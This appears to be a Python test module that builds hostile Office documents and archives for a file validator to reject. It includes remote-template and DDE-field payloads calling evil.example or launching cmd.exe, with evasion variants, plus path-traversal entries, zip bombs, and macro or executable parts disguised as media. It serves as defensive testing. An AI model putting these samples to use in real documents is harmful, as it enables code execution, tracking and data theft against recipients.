"""DOCX and XLSX files that nobody should be given to open, each with why; and archives made to harm whoever unpacks them."""

import struct
from collections.abc import Iterator

from application.ports import Unfit
from tests.application.adapters.corpus import hostile_archives
from tests.support.papers import OFFICE, body, office, relation, relations, types, zipped

Case = tuple[str, bytes, Unfit]
PLAIN = office()
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
CONTROL = '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'


def rels(*told: str, kind: str = "word/_rels/document.xml.rels") -> tuple[str, str]:
    return kind, relations(*told)


def field(*pieces: str) -> str:
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


def with_macros() -> Iterator[tuple[str, bytes]]:
    yield "a DOCX with macros", office("docx", ("word/vbaProject.bin", OLE + bytes(500)))
    yield "an XLSX with macros", office("xlsx", ("xl/vbaProject.bin", OLE + bytes(500)))
    yield (
        "a DOCX with macros under another name",
        office(
            "docx", ("word/odd.bin", b"a"), content_types=['<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>']
        ),
    )
    yield (
        "a DOCM called DOCX",
        zipped(
            [
                (
                    "[Content_Types].xml",
                    types("docx").replace(
                        "vnd.openxmlformats-officedocument.wordprocessingml.document.main", "vnd.ms-word.document.macroEnabled.main"
                    ),
                ),
                ("word/document.xml", body("docx")),
            ]
        ),
    )
    told_in_numbers = '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>'
    yield "a DOCX with macros told in numbers", office("docx", content_types=[told_in_numbers])
    yield "a sheet of old macros", office("xlsx", ("xl/macrosheets/sheet1.xml", "<a/>"))
    yield "a DOCX with a control", office("docx", ("word/activeX/activeX1.xml", "<a/>"), content_types=[CONTROL])


def carrying() -> Iterator[tuple[str, bytes]]:
    yield "a DOCX with an embedded object", office("docx", ("word/embeddings/oleObject1.bin", OLE + bytes(500)))
    yield "a DOCX with an object where none belongs", office("docx", ("word/media/image1.png", OLE + bytes(500)))
    yield "a DOCX with a program", office("docx", ("word/media/setup.exe", b"MZ\x90\0"))
    yield "a DOCX with an archive for a picture", office("docx", ("word/media/image1.png", zipped([("a", "b")])))
    yield "a DOCX with a page", office("docx", ("word/afchunk.html", "<script>"))
    yield "a DOCX with a page as a mail", office("docx", ("word/afchunk.mht", "MIME-Version: 1.0"))
    yield (
        "a DOCX with a page under another name",
        office("docx", ("word/page.dat", "words <html>"), rels(relation("aFChunk", "page.dat", "Internal"))),
    )
    yield "a DOCX that shows a page", office("docx", text='<w:altChunk xmlns:r="r" r:id="r1"/>')
    yield (
        "a program in Java that is a DOCX too",
        office("docx", ("META-INF/MANIFEST.MF", "Main-Class: A"), ("A.class", b"\xca\xfe\xba\xbe")),
    )


def loading() -> Iterator[tuple[str, bytes]]:
    yield (
        "a template from elsewhere",
        office("docx", ("word/_rels/settings.xml.rels", relations(relation("attachedTemplate", "http://evil.example/a.dotm")))),
    )
    yield (
        "a template told in capitals",
        office("docx", ("word/_rels/settings.xml.RELS", relations(relation("attachedTemplate", "http://evil.example/a.dotm")))),
    )
    yield "a template from a share", office("docx", rels(relation("attachedTemplate", "file://///evil.example/a.dotm")))
    for way in ("/\\", "\\/", "/&#9;/", "%5c/"):
        yield f"a template from a share, named by {way}", office("docx", rels(relation("attachedTemplate", f"{way}evil.example/a.dotm")))
    yield (
        "a template from elsewhere in another mode",
        office("docx", rels(relation("attachedTemplate", "http://evil.example/a.dotm", "external"))),
    )
    yield "a template from a share, as Windows names it", office("docx", rels(relation("attachedTemplate", r"\\evil.example\a.dotm")))
    yield (
        "a template whose address is written otherwise",
        office("docx", rels(relation("attachedTemplate", "&#104;ttp://evil.example/a.dotm"))),
    )
    yield (
        "an object from elsewhere",
        office("docx", rels(relation("oleObject", "mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html"))),
    )
    yield "a frame from elsewhere", office("docx", rels(relation("frame", "https://evil.example")))
    yield "a picture from elsewhere", office("docx", rels(relation("image", "https://evil.example/seen.png")))
    yield (
        "a workbook from elsewhere",
        office(
            "xlsx", rels(relation("externalLinkPath", "https://evil.example/a.xlsx"), kind="xl/externalLinks/_rels/externalLink1.xml.rels")
        ),
    )
    yield "a field that starts a program", office("docx", text=field("DDEAUTO c:\\\\windows\\\\cmd.exe"))
    yield "a field in pieces", office("docx", text=field("DD", "EAU", "TO cmd"))
    yield "a field spelled in numbers", office("docx", text=field("&#68;DE cmd"))
    yield "a field in pieces of remarks", office("docx", text=field("DD<!-- work -->E<?work done?>AUTO cmd"))
    yield "a field behind another", office("docx", text=field("PAGE") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>' + field("DDE cmd"))
    yield "a field whose mark has a > in it", office("docx", text='<w:instrText w:a=">">DDE cmd</w:instrText>')
    yield "a field in a part of another folder", office("docx", ("d/header.bin", f"<w:hdr>{field('DDE cmd')}</w:hdr>"))
    yield "a simple field that starts a program", office("docx", text='<w:fldSimple w:instr=" DDE cmd "/>')
    yield (
        "a link to another program",
        office("xlsx", ("xl/externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd"/></externalLink>')),
    )


def whole_field(*pieces: str) -> str:
    return f'<w:fldChar w:fldCharType="begin"/>{field(*pieces)}<w:fldChar w:fldCharType="end"/>'


def fields_that_load() -> Iterator[tuple[str, bytes]]:
    picture = 'INCLUDEPICTURE "http://evil.example/a.png" \\d'
    yield "a field with a picture from elsewhere", office("docx", text=whole_field(f" {picture} "))
    yield "a field with a picture from elsewhere, within another", office("docx", text=whole_field("IF 1=1 ", whole_field(picture)))
    yield "a field with a text from a share", office("docx", text=whole_field(r'includetext "\\\\evil.example\\s\\a.docx"'))
    yield "a field with a text from elsewhere, in pieces", office("docx", text=whole_field(" IN", "CLUDE", "TEXT http://evil.example"))
    yield "a field linked to a workbook", office("docx", text=whole_field(r' LINK Excel.Sheet.8 "\\\\evil.example\\s\\a.xls" "" \a'))
    yield "a field linked to a workbook, behind another", office("docx", text=whole_field("PAGE") + whole_field("LI", "NK Excel.Sheet.8"))
    yield "a field linked to a workbook, behind one in it", office("docx", text=whole_field(whole_field("SET a b"), " LINK Excel.Sheet.8"))
    yield "a field linked to a workbook, behind blanks", office("docx", text=whole_field(" " * 2**19 + "LINK Excel.Sheet.8"))
    yield "a field that brings in another file", office("docx", text=whole_field("IMPORT http://evil.example/a.png"))
    yield "a field that asks a database", office("docx", text=whole_field("DATABASE \\d http://evil.example"))
    yield "a simple field linked to a workbook", office("docx", text='<w:fldSimple w:instr=" LINK Excel.Sheet.8 a"/>')


def refreshing() -> Iterator[tuple[str, bytes]]:
    web = '<webPr url="http://evil.example"/>'
    for told in ('refreshOnLoad="1"', 'refreshOnLoad=" true "', 'refreshOnLoad="&#49;"', 'interval="5"'):
        yield (
            f"a workbook that asks elsewhere by {told}",
            office("xlsx", ("xl/connections.xml", f'<connections><connection id="1" {told}>{web}</connection></connections>')),
        )
    yield (
        "a workbook that asks elsewhere under another name",
        office("xlsx", ("xl/a.dat", '<x:connections xmlns:x="x"><x:connection refreshOnLoad="1"/></x:connections>')),
    )
    yield "a table that asks elsewhere", office("xlsx", ("xl/queryTables/a.xml", '<queryTable refreshOnLoad="1" connectionId="1"/>'))


def misplaced() -> Iterator[tuple[str, bytes]]:
    link = '<externalLink><ddeLink ddeService="cmd"/></externalLink>'
    yield "a link to another program where none belongs", office("xlsx", ("xl/foo/e1.xml", link))
    yield "a link to another program among the sheets", office("xlsx", ("xl/worksheets/sheet1.xml", link))


def patched(content: bytes, start: bytes, offset: int, *values: int, form: str = "<H") -> bytes:
    """Overwritten at an offset from every place where such a header starts."""
    told, at = bytearray(content), content.find(start)
    while at >= 0:
        struct.pack_into(form, told, at + offset, *values)
        at = content.find(start, at + 4)
    return bytes(told)


def lying(content: bytes, name: bytes, size: int) -> bytes:
    """Of which the part of this name says that it unpacks to so much."""
    told = bytearray(content)
    struct.pack_into("<I", told, told.index(name) - 30 + 22, size)
    struct.pack_into("<I", told, told.rindex(name) - 46 + 24, size)
    return bytes(told)


def shared() -> bytes:
    """Several names for the same packed bytes, as a bomb has them that does without nesting."""
    content = bytearray(office("docx", ("word/a.xml", bytes(2**20)), ("word/b.xml", bytes(2**20))))
    first, second = content.rindex(b"word/a.xml") - 46, content.rindex(b"word/b.xml") - 46
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


def too_large() -> Iterator[tuple[str, bytes]]:
    zeros = bytes(2**24)
    yield "an archive that says it unpacks too large", lying(office("docx", ("word/media/a", b"a")), b"word/media/a", 2**29)
    yield "an archive a thousandth of what it unpacks to", office("docx", *((f"word/media/{n}", zeros) for n in range(2)))
    yield "an archive that lies about its size", lying(office("docx", ("word/media/a", zeros)), b"word/media/a", 100)
    yield "a text that lies about its size", lying(office("docx", ("word/b.xml", zeros)), b"word/b.xml", 10)
    yield "an archive of very many parts", zipped((f"word/media/{n}", "") for n in range(5_001))
    yield "a text larger than is read", office("docx", ("word/b.xml", b"%d" % 7**99 * (2**25 // 84 + 10_000)))


def not_as_it_lies() -> Iterator[Case]:
    yield "an archive with shared parts", shared(), Unfit.SOMETHING_ELSE
    yield "an archive with bytes in front", b"PK\x03\x04" + PLAIN, Unfit.SOMETHING_ELSE
    yield "an archive with a page behind", PLAIN + b"<script>alert(1)</script>", Unfit.SOMETHING_ELSE
    yield "an archive with a comment", PLAIN[:-2] + b"\x07\x00<script", Unfit.SOMETHING_ELSE
    yield "a way out of the folder", office("docx", ("../../etc/passwd", "")), Unfit.DAMAGED
    yield "a way to the root", office("docx", ("/etc/passwd", "")), Unfit.DAMAGED
    yield "a way out as Windows writes it", office("docx", ("word/..\\..\\a.dll", "")), Unfit.DAMAGED
    yield "two parts of one name", office("docx", ("word/Document.xml", field("DDE"))), Unfit.DAMAGED
    yield "a part with another name where it lies", PLAIN.replace(b"word/document.xml", b"word/dokument.xml", 1), Unfit.DAMAGED
    yield "a part packed in an odd way", patched(patched(PLAIN, b"PK\x03\x04", 8, 12), b"PK\x01\x02", 10, 12), Unfit.DAMAGED
    yield "a text in wide letters", office("docx", ("word/_rels/a.xml.rels", relations().encode("utf-16"))), Unfit.DAMAGED
    yield "a text with definitions", office("docx", ("word/a.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a/>')), Unfit.DAMAGED
    start = relations(relation("officeDocument", "d/real.xml", "Internal"))
    elsewhere = [("[Content_Types].xml", types("docx")), ("_rels/.rels", start), ("word/document.xml", "<a/>"), ("d/real.xml", "<a/>")]
    yield "a main part that is not where it belongs", zipped(elsewhere), Unfit.DAMAGED
    hidden = rels(relation("connections", "worksheets/a.xml", "Internal"), kind="xl/_rels/workbook.xml.rels")
    yield "questions among the sheets", office("xlsx", hidden, ("xl/worksheets/a.xml", '<connection refreshOnLoad="1"/>')), Unfit.DAMAGED
    hidden = rels(relation("queryTable", "a.xml", "Internal"), kind="xl/worksheets/_rels/sheet1.xml.rels")
    yield "a table of questions among the sheets", office("xlsx", hidden), Unfit.DAMAGED
    yield "a text nested without end", office("docx", ("word/a.xml", "<a>" * 9_999 + "</a>" * 9_999)), Unfit.DAMAGED
    yield "relations that are none", office("docx", ("word/_rels/a.xml.rels", f"<a {OFFICE}")), Unfit.DAMAGED
    yield "an archive cut short", PLAIN[:-30], Unfit.DAMAGED


def locked() -> Iterator[tuple[str, bytes]]:
    yield (
        "a DOCX with a password",
        OLE + bytes(504) + "EncryptionInfo".encode("utf-16-le") + bytes(36) + "EncryptedPackage".encode("utf-16-le"),
    )
    yield "an archive with a password", patched(patched(PLAIN, b"PK\x03\x04", 6, 1), b"PK\x01\x02", 8, 1)


def cases() -> Iterator[Case]:
    for found, reason in (
        (with_macros(), Unfit.MACROS),
        (carrying(), Unfit.ATTACHED_FILES),
        (loading(), Unfit.LOADS_FROM_ELSEWHERE),
        (fields_that_load(), Unfit.LOADS_FROM_ELSEWHERE),
        (refreshing(), Unfit.LOADS_FROM_ELSEWHERE),
        (misplaced(), Unfit.LOADS_FROM_ELSEWHERE),
        (too_large(), Unfit.UNPACKS_TOO_LARGE),
        (locked(), Unfit.ENCRYPTED),
    ):
        yield from ((what, content, reason) for what, content in found)
    yield from not_as_it_lies()
    yield from hostile_archives.cases()
